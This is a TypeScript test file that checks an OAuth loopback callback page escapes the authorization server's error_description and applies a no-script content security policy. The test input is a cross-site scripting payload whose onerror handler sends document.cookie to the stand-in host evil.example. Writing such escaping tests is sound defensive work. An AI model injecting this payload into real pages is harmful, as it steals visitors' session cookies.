/**
 * Server data in a page: the loopback callback page shows what the
 * authorization server sent back (`error`, `error_description`) as escaped
 * text under a policy that runs no script. For protocol sign-ins the
 * authorization server is the remote server's choice.
 */
import { describe, expect, it } from 'vitest';
import { startLoopbackReceiver } from '../../src/core/auth/loopback.js';
import { FakeClock } from '../fakes/clock.js';

const never = new FakeClock(undefined, { autoAdvance: false });
const sleep = (ms: number, s?: AbortSignal) => never.sleep(ms, s);

describe('query callback pages', () => {
  it("show the authorization server's error_description as text, never as markup", async () => {
    const rx = await startLoopbackReceiver({ state: 'st-3' });
    const waiting = rx.wait(60_000, sleep).then(
      () => undefined,
      (e: unknown) => e,
    );
    const hostile = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)"><script>alert(1)</script>';
    const url = new URL(rx.redirectUri);
    url.search = new URLSearchParams({ state: 'st-3', error: 'access_denied<b>', error_description: hostile }).toString();
    const res = await fetch(url);
    expect(res.status).toBe(400);
    expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
    const html = await res.text();
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<b>');
    expect(html).toContain('access_denied&lt;b&gt;: &lt;img src=x onerror=&quot;fetch(');
    expect(await waiting).toMatchObject({ code: 'oauth_error' });
    await rx.close();
  });
});
